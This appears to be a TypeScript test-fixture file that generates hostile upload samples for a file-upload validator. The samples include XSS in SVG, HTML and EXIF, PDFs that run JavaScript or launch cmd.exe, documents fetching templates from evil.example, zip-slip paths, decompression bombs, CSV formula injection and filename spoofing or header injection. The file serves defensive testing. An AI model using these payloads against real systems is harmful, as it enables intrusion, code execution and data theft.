import { deflateSync, crc32 } from 'node:zlib'
import sharp from 'sharp'
import { pdfOf, type PdfShape } from './pdfs.ts'
import { anImage, anMp4, aPdf, officeOf, type Upload, zipOf, type ZipPart } from './uploads.ts'

export const html = '<!doctype html><script>alert(1)</script>'
export const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
export const exe = Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0'.padEnd(600, '\0'), 'latin1')
const gif = Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;', 'latin1')
export const plainZip = zipOf([{ name: 'readme.txt', data: 'hello' }])
const png = await anImage('png')
const jpeg = await anImage('jpeg')

/** A PNG whose header promises more pixels than there are. */
export function pixelBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const ends = Buffer.alloc(8)
    ends.writeUInt32BE(data.length)
    ends.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(1024 * 1024))
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

const zip = (parts: ZipPart[], around?: Record<string, string>) => ({ bytes: zipOf(parts, around), name: 'pack.zip' })
const docx = (parts: ZipPart[], main?: string) => ({ bytes: officeOf('docx', parts, main), name: 'paper.docx' })
const pdf = (catalog: string, shape: PdfShape = {}) => ({ bytes: pdfOf({ catalog, ...shape }), name: 'paper.pdf' })
const named = (name: string, bytes = aPdf()) => ({ bytes, name })
const mebibyte = 1024 * 1024

/** A relationship of a part with something outside of the document. */
function relationships(name: string, type: string, target: string): ZipPart {
  const kind = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
  const one = `<Relationship Id="rId1" TargetMode="External" Type="${kind}" Target="${target}"/>`
  return { name, data: `<?xml version="1.0"?><Relationships>${one}</Relationships>` }
}
const linkedDocx = (type: string, target: string) => docx([relationships('word/_rels/settings.xml.rels', type, target)])

/** A JPEG whose frame (SOF0) promises more than there is. */
function largeJpeg(): Buffer {
  const bytes = Buffer.from(jpeg)
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]))
  bytes.writeUInt16BE(65_500, frame + 5)
  bytes.writeUInt16BE(65_500, frame + 7)
  return bytes
}

/** A lossless WEBP (VP8L) whose head promises 14 bits each way. */
async function largeWebp(): Promise<Buffer> {
  const bytes = await sharp(png).webp({ lossless: true }).toBuffer()
  const sizes = bytes.indexOf('VP8L') + 9
  bytes.writeUInt32LE((bytes.readUInt32LE(sizes) | 0x0fffffff) >>> 0, sizes)
  return bytes
}

/** What nothing takes, wherever a file can be uploaded (R55). */
export const hostileFiles: Record<string, Upload> = {
  // Kinds that are not taken, by their ending
  'an SVG': named('a.svg', Buffer.from(svg)),
  'an HTML page': named('a.html', Buffer.from(html)),
  'an XHTML page': named('a.xhtml', Buffer.from(html)),
  'a script': named('a.js', Buffer.from('alert(1)')),
  'a program': named('a.exe', exe),
  'a macro document': named('a.docm', officeOf('docx')),
  'a GIF': named('a.gif', gif),
  'no ending': named('paper'),
  // Contents that are not what the name says
  'an HTML page as PDF': named('a.pdf', Buffer.from(html)),
  'an SVG as PNG': named('a.png', Buffer.from(svg)),
  'an SVG as WEBP': named('a.webp', Buffer.from(svg)),
  'an SVG as thumbnail type JPEG': named('a.jpg', Buffer.from(svg)),
  'a program as PDF': named('a.pdf', exe),
  'a program as ZIP': named('a.zip', exe),
  'a program as DOCX': named('a.docx', exe),
  'a PDF as PNG': named('a.png', aPdf()),
  'a PNG as PDF': named('a.pdf', png),
  'a GIF as PNG': named('a.png', gif),
  'a ZIP as DOCX': named('a.docx', plainZip),
  'a DOCX as XLSX': named('a.xlsx', officeOf('docx')),
  'an XLSX as PPTX': named('a.pptx', officeOf('xlsx')),
  'a DOCX as ZIP': named('a.zip', officeOf('docx')),
  'an HTML page as MP4': named('a.mp4', Buffer.from(html)),
  'an empty file': named('a.pdf', Buffer.alloc(0)),
  // Names
  'a double ending': named('a.pdf.exe'),
  'a hidden program': named('a.exe.pdf'),
  'a hidden page': named('a.html.pdf'),
  'a hidden archive': named('a.zip.pdf'),
  'a NUL in the name': named('a.php\0.pdf'),
  'a turned name': named('a\u202efdp.exe.pdf'),
  'an unseen character': named('a\u200b.pdf'),
  'a name that begins with a dot': named('.htaccess.pdf'),
  'a dot behind the ending': named('a.pdf.'),
  'a space behind the ending': named('a.pdf .'),
  'a stream name': named('a.pdf:evil.exe'),
  'a long name': named(`${'a'.repeat(300)}.pdf`),
  // PDF
  'a PDF with JavaScript': pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
  'a PDF with JavaScript in disguise': pdf('/S/J#61va#53cript'),
  'a PDF that starts a program': pdf('/S/Launch/F(cmd.exe)'),
  'a PDF with a file in it': pdf('/EmbeddedFiles 7 0 R'),
  'a PDF with rich media': pdf('/RichMedia true'),
  'a PDF that sends forms': pdf('/S/SubmitForm/F(https://evil.example)'),
  'a PDF with a password': pdf('', { trailer: '/Encrypt 5 0 R', objects: ['<</Filter/Standard>>'] }),
  'a PDF with JavaScript across two reads': pdf(`${' '.repeat(256 * 1024 - 60)}/S/JavaScript`),
  'a PDF with JavaScript in compressed objects': pdf('/OpenAction<</S/JavaScript>>', { as: 'compressed' }),
  'a PDF with an attached file in compressed objects': pdf('/Names<</EmbeddedFiles<<>>>>', { as: 'compressed' }),
  'a PDF with actions': pdf('/AA<</WC<</S/Hide>>>>', { as: 'compressed' }),
  'a PDF without a table': named('a.pdf', Buffer.from('%PDF-1.7\ntrailer<</Root 1 0 R>>\n%%EOF\n')),
  'a PDF behind something else': named('a.pdf', Buffer.concat([Buffer.from(html), aPdf()])),
  'a PDF before an archive': named('a.pdf', Buffer.concat([aPdf(), plainZip])),
  'a PDF before a page': named('a.pdf', Buffer.concat([aPdf(), Buffer.from(html)])),
  'half a PDF': named('a.pdf', aPdf().subarray(0, 20)),
  // Archives
  'an archive with a program': zip([{ name: 'setup.exe', data: exe }]),
  'an archive with a page': zip([{ name: 'docs/index.html', data: html }]),
  'an archive with a hidden program': zip([{ name: 'a.exe.pdf', data: exe }]),
  'an archive in an archive': zip([{ name: 'inner.zip', data: plainZip }]),
  'an archive that climbs': zip([{ name: '../../etc/cron.d/x', data: 'x' }]),
  'an archive with a whole path': zip([{ name: '/etc/passwd', data: 'x' }]),
  'an archive with a Windows path': zip([{ name: String.raw`..\x.txt`, data: 'x' }]),
  'an archive with a drive': zip([{ name: 'C:x.txt', data: 'x' }]),
  'an archive with a NUL name': zip([{ name: 'a\0.txt', data: 'x' }]),
  'an archive with a link': zip([{ name: 'link', data: '/etc/passwd', lies: { mode: 0xa1ff } }]),
  'an archive with a password': zip([{ name: 'a.txt', data: 'x', lies: { flags: 0x0801 } }]),
  'an archive with two entries of a name': zip([{ name: 'a.txt' }, { name: 'A.txt' }]),
  'an archive with two names': zip([{ name: 'a.txt', data: 'x', lies: { localName: 'b.exe' } }]),
  'an archive of unknown compression': zip([{ name: 'a.txt', data: 'x', lies: { method: 14 } }]),
  'an archive with a comment': zip([{ name: 'a.txt', data: 'x' }], { comment: html }),
  'an archive behind a page': zip([{ name: 'a.txt', data: 'x' }], { before: html }),
  'an archive before a page': zip([{ name: 'a.txt', data: 'x' }], { after: html }),
  'an archive with a page in a gap': zip([{ name: 'a.txt' }, { name: 'b.txt' }], { between: html }),
  'a bomb of one entry': zip([{ name: 'a.txt', data: Buffer.alloc(160 * mebibyte) }]),
  'a bomb by its ratio': zip([{ name: 'a.txt', data: Buffer.alloc(20 * mebibyte) }]),
  'a bomb that says it is small': zip([{ name: 'a.txt', data: Buffer.alloc(20 * mebibyte), lies: { size: 10 } }]),
  'an archive that says it is larger': zip([{ name: 'a.txt', data: 'x', lies: { size: 20 } }]),
  'a bomb of overlapping entries': zip([
    { name: 'a.txt', data: 'x', lies: { packedSize: 40 } },
    { name: 'b.txt', data: 'y' },
  ]),
  'a bomb of many entries': zip(Array.from({ length: 2001 }, (_, index) => ({ name: `${index}.txt` }))),
  'half an archive': named('a.zip', plainZip.subarray(0, plainZip.length - 10)),
  // Office documents
  'a document with macros': docx([{ name: 'word/vbaProject.bin', data: 'x' }]),
  'a document with a control': docx([{ name: 'word/activeX/activeX1.xml', data: '<x/>' }]),
  'a document with a packaged object': docx([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]),
  'a document with a program': docx([{ name: 'word/media/a.exe', data: exe }]),
  'a document that grows': docx([], '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
  'a document that grows, in UTF-16': docx([{ name: 'word/a.xml', data: Buffer.from('<!DOCTYPE x>', 'utf16le') }]),
  // Pictures and films
  'a pixel bomb': named('a.png', pixelBomb(30_000, 30_000)),
  'a picture of 41 megapixels': named('a.png', pixelBomb(6411, 6411)),
  'a picture that is cut off': named('a.jpg', jpeg.subarray(0, 200)),
  'a film before a page': named('a.mp4', Buffer.concat([anMp4(), Buffer.from(html)])),
  'a film behind a page': named('a.mp4', Buffer.concat([Buffer.from(html), anMp4()])),
  'a film that is cut off': named('a.mp4', anMp4().subarray(0, 40)),
  // Texts
  'a text with control characters': named('a.txt', Buffer.from('a\u0007\u001b[2Jb')),
  'a text with NULs': named('a.csv', Buffer.from('a,b\0\n')),
  'a text that is no UTF-8': named('a.txt', Buffer.from([0x61, 0xff, 0xfe, 0xc3, 0x28])),
  'a table in UTF-16': named('a.csv', Buffer.from('\ufeffa;b', 'utf16le')),
  'a program as text': named('a.txt', exe),
  'a PDF as text': named('a.txt', aPdf()),
  'a PNG as table': named('a.csv', png),
  'an archive as text': named('a.txt', plainZip),
  'an empty text': named('a.txt', Buffer.alloc(0)),
  'an empty picture': named('a.png', Buffer.alloc(0)),
  'an empty document': named('a.docx', Buffer.alloc(0)),
  // Office documents that fetch something when they are opened
  'a document with a template from elsewhere': linkedDocx('attachedTemplate', 'https://evil.example/x.dotm'),
  'a document with an object from elsewhere': linkedDocx('oleObject', 'https://evil.example/x.html!'),
  'a document with a template on a share': linkedDocx('attachedTemplate', String.raw`file:///\\evil.example\x.dotm`),
  'a document with a template in disguise': linkedDocx('attachedTempl&#97;te', '&#x68;ttps://evil.example/x.dotm'),
  'a document with a frame': linkedDocx('frame', 'http://evil.example/'),
  'a workbook linked to another': {
    bytes: officeOf('xlsx', [
      relationships(
        'xl/externalLinks/_rels/externalLink1.xml.rels',
        'externalLinkPath',
        String.raw`\\evil.example\x.xlsx`,
      ),
    ]),
    name: 'a.xlsx',
  },
  'a document with relationships that nobody can read': docx([
    { name: 'word/_rels/a.xml.rels', data: '<Relationships><Relationship Type="a" Target="b"' },
  ]),
  // Pictures
  'a JPEG that says it is 65,500 wide and high': named('a.jpg', largeJpeg()),
  'a WEBP that says it is 16,384 wide and high': named('a.webp', await largeWebp()),
  'a TIFF as JPEG': named('a.jpg', await sharp(png).tiff().toBuffer()),
  'a picture of nothing but a head': named('a.png', png.subarray(0, 33)),
}

const withTrace = async (format: 'png' | 'jpeg' | 'webp') =>
  sharp(await anImage(format))
    .withExif({ IFD0: { Copyright: html, ImageDescription: svg } })
    .toFormat(format)
    .toBuffer()
const plain = (name: string, text: string) => named(name, Buffer.from(text))

/** What some places take. Whoever fetches it again gets an attachment that runs nothing, or a picture without a trace. */
export const tamedFiles: Record<string, Upload> = {
  'a PDF that says it is a page': { bytes: aPdf(), name: 'a.pdf', type: 'text/html' },
  'a text that is a page': plain('a.txt', html),
  'a table with a formula': plain('a.csv', "=cmd|' /C calc'!A0,+1+1,@SUM(1)"),
  'a text that turns around': plain('a.txt', 'abc\u202egpj.exe'),
  'a PNG as JPEG': named('a.jpeg', png),
  'a PNG with a page in its EXIF': named('a.png', await withTrace('png')),
  'a JPEG with a page in its EXIF': named('a.jpg', await withTrace('jpeg')),
  'a WEBP with a page in its EXIF': named('a.webp', await withTrace('webp')),
  'a PNG that is an archive as well': named('a.png', Buffer.concat([png, plainZip])),
  'a JPEG that is a page as well': named('a.jpg', Buffer.concat([jpeg, Buffer.from(html)])),
  'a WEBP of 17 megapixels': named('a.webp', await anImage('webp', 4200, 4100)),
  'a PNG of 39 megapixels': named('a.png', await anImage('png', 6500, 6000)),
  'a name that climbs': named('../../../etc/cron.d/a.pdf'),
  'a name that climbs on Windows': named(String.raw`..\..\a.pdf`),
  'a name with a line break': named('a\r\nContent-Type: text/html\r\n\r\n.pdf'),
  'a name with quotes and percents': named('a"%22; filename=x.html.pdf'),
  'a name in many scripts': named('Gründung 会社 تجربة.pdf'),
}
